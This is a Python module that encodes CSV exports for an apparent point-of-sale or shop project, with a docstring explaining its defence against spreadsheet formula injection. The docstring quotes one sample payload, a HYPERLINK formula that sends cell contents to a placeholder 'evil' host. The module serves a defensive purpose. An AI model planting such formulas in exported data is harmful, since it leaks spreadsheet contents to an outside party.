"""CSV as kassa's exports write it: RFC 4180 (Python's `csv`, CRLF line ends, quotes only
where needed), UTF-8, one cell per value formatted by its type, and no formulas.

Why by type: a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or
carriage return before one) as a formula, so a customer who names himself
`=HYPERLINK("http://evil/?"&A1)` would run code in the bookkeeper's spreadsheet. Every
text cell (ids, names, e-mails, SKUs, titles, statuses) that starts so gets a leading `'`,
which spreadsheets read as "this is text". Numbers are never text here: an amount of -500
is written `-500`, since money must stay a number for the sum at the bottom of the column.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import UTC, date, datetime

Cell = str | int | bool | datetime | date | None

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value: str) -> str:
    """A text value as a cell no spreadsheet runs as a formula."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def rfc3339_utc(value: datetime) -> str:
    """`2026-11-25T09:30:00Z` (microseconds when there are any), as the JSON API writes it."""
    if value.tzinfo is None:
        raise ValueError("a naive datetime has no place in an export: times are UTC")
    return value.astimezone(UTC).isoformat().replace("+00:00", "Z")


def cell(value: Cell) -> str:
    """One value as its cell's text: empty for none, `true`/`false`, integers as written
    (minor units), times in RFC 3339 UTC, days as `YYYY-MM-DD`, text made formula-safe."""
    if value is None:
        return ""
    if isinstance(value, str):
        return text_cell(value)
    if isinstance(value, bool):  # before int: a bool is an int
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, datetime):  # before date: a datetime is a date
        return rfc3339_utc(value)
    if isinstance(value, date):
        return value.isoformat()
    raise TypeError(f"no CSV cell for a {type(value).__name__}")


class CsvEncoder:
    """Rows of a fixed width into UTF-8 CSV bytes, a batch at a time (the buffer is emptied
    after each, so memory holds one batch, whatever the row count)."""

    def __init__(self, columns: Sequence[str]) -> None:
        self.columns = tuple(columns)
        self._buffer = io.StringIO()
        self._writer = csv.writer(self._buffer, lineterminator="\r\n")

    def header(self) -> bytes:
        self._writer.writerow(self.columns)
        return self._take()

    def encode(self, rows: Iterable[Sequence[Cell]]) -> bytes:
        width = len(self.columns)
        for row in rows:
            if len(row) != width:
                raise ValueError(f"a row of {len(row)} cells for {width} columns")
            self._writer.writerow([cell(value) for value in row])
        return self._take()

    def _take(self) -> bytes:
        text = self._buffer.getvalue()
        self._buffer.seek(0)
        self._buffer.truncate()
        return text.encode("utf-8")
